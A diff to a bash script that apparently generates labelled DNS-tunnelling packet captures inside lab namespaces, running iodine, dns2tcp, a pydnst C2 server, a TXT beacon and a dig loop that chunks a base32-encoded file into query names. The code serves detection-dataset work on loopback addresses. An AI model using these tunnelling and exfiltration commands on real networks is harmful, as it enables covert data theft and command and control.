@@ -1,7 +1,7 @@
 #!/usr/bin/env bash
 # The tunnels of one day (sourced by shift_day.sh, inside its namespace; uses its helpers). Each split has
 # tunnel domains of its own (shift_plan.py TUNNEL_DOMAINS); which tunnels run depends on the day of the split:
-#   every day:   low-and-slow (a few dozen exfiltration lookups among the host's ordinary DNS, over ~19 h),
+#   every day:   low-and-slow (a few dozen exfiltration lookups among the host's ordinary DNS, over ~12.5 h),
 #                c2-beacon (a TXT poll <8-hex session>.<seq>.<domain> every ~6 minutes, answered by nsd)
 #   days 2, 3:   spread (one file, its chunks sent from 64 source addresses), pydnst (a real DNS C2 tool from
 #                PyPI: keep-alives, the operator's commands, their output sent back in queries), dns2tcp
@@ -13,6 +13,11 @@ tdom() { awk -F'\t' -v f="$1" '$1 == f { print $2 }' <<<"$TUN"; }
 TRES=(bind9 unbound kresd pdns-recursor unbound-0x20)
 RT=${TRES[$(((DI + SI) % 5))]}       # the resolver today's tunnels use
 RT2=${TRES[$(((DI + SI + 2) % 5))]}  # a second one, for the volume tunnels (the next one if it fails them)
+# pydnst's client asks the resolver its config names. Through kresd and through unbound with 0x20 it never
+# registers (its server matches the domain case-sensitively) and retries without pause, tens of thousands of
+# queries; its operator would pick a resolver that works, so it uses unbound or bind9.
+PRES=$([ $((DI % 2)) = 0 ] && echo unbound || echo bind9)
+tw() { wanted tunnels || wanted "$1"; }  # run this tunnel scenario (ONLY_SCENARIOS)
 tunnel_rules() {  # tunnel_rules FAMILY CATEGORY DOMAIN SRV_ADDR SRV_IMPL CLIENT_IMPL CLIENT_INI RES
   local fam=$1 cat=$2 dom=$3 sa=$4 si=$5 ci=$6 ini=$7 res=$8 re r a
   re="${dom//./\\.}"
@@ -71,7 +76,7 @@ pydnst_run() {  # the pydnst server on an interface of its own (it listens on it
   (cd "$d/srv" && "$TOOLS/bin/python" -m pydnst create_certificates >/dev/null && "$TOOLS/bin/python" -m pydnst config >/dev/null)
   sed -i -e "s/^DNST_SERVER_NAME = .*/DNST_SERVER_NAME = \"$dom\"/" -e 's/^LISTENING_INTERFACE = .*/LISTENING_INTERFACE = "pyd0"/' \
     -e "s|^MESSAGES_JSON = .*|MESSAGES_JSON = \"$d/srv/messages.json\"|" -e "s|^UDS_PATH_COMMANDER = .*|UDS_PATH_COMMANDER = \"$d/srv/c2.uds\"|" \
-    -e "s/^DNS_SERVER_ADDRESS = .*/DNS_SERVER_ADDRESS = \"$(raddr $RT pydnst)\"/" -e 's/^KEEP_ALIVE_PERIOD = .*/KEEP_ALIVE_PERIOD = 3/' "$d/srv/pydnst.toml"
+    -e "s/^DNS_SERVER_ADDRESS = .*/DNS_SERVER_ADDRESS = \"$(raddr $PRES pydnst)\"/" -e 's/^KEEP_ALIVE_PERIOD = .*/KEEP_ALIVE_PERIOD = 3/' "$d/srv/pydnst.toml"
   cp "$d/srv/pydnst.toml" "$d/srv/server_public.pem" "$d/cli/"
   echo "$((17 + DI))" > "$d/cli/dnst_client_id.txt"
   echo "ws-fin-$((200 + DI))" > "$d/cli/hostname"
@@ -87,28 +92,33 @@ pydnst_run() {  # the pydnst server on an interface of its own (it listens on it
   stop $C $S; ip link del pyd0 2>/dev/null
 }
 
-R=$(raddr $RT)
+# They run at once (ONLY_SCENARIOS: "slow-tunnels"), each captured with a host filter, and are merged into one
+# file, <day>/1100-slow-tunnels.pcap:
+# every other capture of the day lies before 11:00, so no two of the day's files overlap in time.
+SLOWF="$DAY/1100-slow-tunnels.pcap"
 jobs=()
-(cap low-and-slow "host 127.53.120.1 or host 127.53.9.3"; low_and_slow; sleep 3
+tw slow-tunnels && (cap 11:00 low-and-slow "host 127.53.120.1 or host 127.53.9.3"; F=$SLOWF; low_and_slow; sleep 3
   tunnel_rules low-and-slow low-and-slow-base32 "$(tdom low-and-slow)" 127.53.9.3 nsd dig 127.53.120.1 $RT
-  uncap 02:00 68400) & jobs+=($!)
-(cap c2-beacon "host 127.53.122.1 or host 127.53.9.6"; beacon; sleep 3
+  SLOW_TO="$WORK/slow-1.pcap" uncap 45000) & jobs+=($!)
+tw slow-tunnels && (cap 11:10 c2-beacon "host 127.53.122.1 or host 127.53.9.6"; F=$SLOWF; beacon; sleep 3
   tunnel_rules c2-beacon c2-beacon-txt "$(tdom c2-beacon)" 127.53.9.6 nsd dig 127.53.122.1 $RT
-  uncap 08:00 21600) & jobs+=($!)
+  SLOW_TO="$WORK/slow-2.pcap" uncap 21600) & jobs+=($!)
 if [ $DS -ge 1 ]; then
-  (cap spread "net 127.53.121.0/24 or host 127.53.9.4"; spread; sleep 3
+  tw slow-tunnels && (cap 13:00 spread "net 127.53.121.0/24 or host 127.53.9.4"; F=$SLOWF; spread; sleep 3
     tunnel_rules spread spread-hex "$(tdom spread)" 127.53.9.4 nsd dig '127.53.121.*' $RT
-    uncap 13:00 10800) & jobs+=($!)
-  (cap pydnst "host 127.53.9.5 or host $(raddr $RT pydnst)"; pydnst_run "$(tdom pydnst)"; sleep 3
-    tunnel_rules pydnst pydnst-txt "$(tdom pydnst)" 127.53.9.5 pydnst pydnst "$(raddr $RT pydnst)" $RT
-    uncap 10:30 3600) & jobs+=($!)
+    SLOW_TO="$WORK/slow-3.pcap" uncap 10800) & jobs+=($!)
+  tw slow-tunnels && (cap 11:20 pydnst "host 127.53.9.5 or host $(raddr $PRES pydnst)"; F=$SLOWF; pydnst_run "$(tdom pydnst)"; sleep 3
+    tunnel_rules pydnst pydnst-txt "$(tdom pydnst)" 127.53.9.5 pydnst pydnst "$(raddr $PRES pydnst)" $PRES
+    SLOW_TO="$WORK/slow-4.pcap" uncap 3600) & jobs+=($!)
 fi
-wait "${jobs[@]}"
-log "$DAY: slow tunnels done (resolver $RT)"
+[ ${#jobs[@]} = 0 ] || wait "${jobs[@]}"
+ls "$WORK"/slow-*.pcap >/dev/null 2>&1 && "$PY" "$HERE/retime.py" --merge "$OUT/$SLOWF" "$WORK"/slow-*.pcap
+rm -f "$WORK"/slow-*.pcap
+log "$DAY: slow tunnels done (resolver $RT, pydnst via $PRES)"
 
 # ---------------------------------------------------------------- volume tunnels, one capture each
 IODCFG=("TXT base32" "NULL auto" "CNAME base64" "MX base128" "SRV base32" "A base32")
-if [ $DS != 1 ]; then
+if [ $DS != 1 ] && tw iodine; then
   set -- ${IODCFG[$(((SI * 2 + DS / 2) % 6))]}; ty=$1 enc=$2
   dom=$(tdom iodine); TUNNS="${NSN:?}-tun"
   ip netns del $TUNNS 2>/dev/null; ip netns add $TUNNS && ip -n $TUNNS link set lo up
@@ -117,7 +127,7 @@ if [ $DS != 1 ]; then
   ip link set tun53s netns $TUNNS && ip -n $TUNNS addr add 10.53.0.1/27 dev tun53s && ip -n $TUNNS link set tun53s up
   ip netns exec $TUNNS socat -u TCP-LISTEN:5000,bind=10.53.0.1,fork,reuseaddr OPEN:/dev/null & SINK=$!
   ip netns exec $TUNNS socat -u EXEC:'head -c 3072 /dev/urandom' TCP-LISTEN:5001,bind=10.53.0.1,fork,reuseaddr & SRC=$!
-  cap iodine
+  cap 10:20 iodine
   o=(-T "$ty"); [ "$enc" != auto ] && o+=(-O "$enc")
   # a user whose tunnel does not come up through one resolver tries the next (qname minimisation and 0x20
   # break some modes); every attempt stays in the capture and is labelled
@@ -135,10 +145,10 @@ if [ $DS != 1 ]; then
     log "$DAY iodine -T $ty -O $enc via $r: no connection"; stop $IODC
   done
   sleep 12
-  uncap 15:00
+  uncap
   stop $IODD $SINK $SRC; ip netns del $TUNNS 2>/dev/null
 fi
-if [ $DS -ge 1 ]; then
+if [ $DS -ge 1 ] && tw dns2tcp; then
   dom=$(tdom dns2tcp); ty=$([ $(((SI + DS) % 2)) = 0 ] && echo TXT || echo KEY); comp=$([ $DS = 2 ] && echo -c)
   mkdir -p "$WORK/d2t/www"; head -c 16000 /dev/urandom > "$WORK/d2t/www/blob.bin"
   printf 'listen = 127.53.9.2\nport = 53\nuser = root\nchroot = %s\ndomain = %s\nresources = http:127.0.0.1:8091,echo:127.0.0.1:8092\n' \
@@ -147,7 +157,7 @@ if [ $DS -ge 1 ]; then
   socat TCP-LISTEN:8092,bind=127.0.0.1,fork,reuseaddr EXEC:cat & ECHO=$!
   dns2tcpd -F -f "$WORK/d2t/dns2tcpd.conf" > "$WORK/dns2tcpd.log" 2>&1 & D2S=$!
   wait_addr 127.53.9.2
-  cap dns2tcp
+  cap 10:35 dns2tcp
   for r in $RT2 bind9 pdns-recursor kresd unbound; do
     dns2tcpc -z "$dom" -r http -l 8093 -T $ty $comp "$(raddr $r dns2tcp)" > "$WORK/d2tc1.log" 2>&1 & C1=$!
     dns2tcpc -z "$dom" -r echo -l 8094 -T $ty $comp "$(raddr $r dns2tcp)" > "$WORK/d2tc2.log" 2>&1 & C2=$!
@@ -160,19 +170,19 @@ if [ $DS -ge 1 ]; then
     [ "${got%% *}" -gt 0 ] 2>/dev/null && break
   done
   sleep 12
-  uncap 16:00
+  uncap
   stop $D2S $WEB $ECHO
 fi
-if [ $DS = 2 ]; then
+if [ $DS = 2 ] && tw dig-exfil; then
   dom=$(tdom dig-exfil); sid=$(printf '%s' "$DAY$dom" | md5sum | head -c 6)
   data=$(head -c 3000 /usr/share/common-licenses/Apache-2.0 | b32); i=0
-  cap dig-exfil
+  cap 10:50 dig-exfil
   while [ -n "$data" ]; do
     chunk=${data:0:100}; data=${data:100}
     dig -b 127.53.110.1 @"$(raddr $RT2)" "$i.${chunk:0:50}.${chunk:50}.$sid.$dom" A +tries=1 +time=2 >/dev/null 2>&1; i=$((i + 1))
   done
   sleep 3
   tunnel_rules dig-exfil dig-exfil-base32 "$dom" 127.53.9.3 nsd dig 127.53.110.1 $RT2
-  uncap 20:00
+  uncap
 fi
 log "$DAY: volume tunnels done"
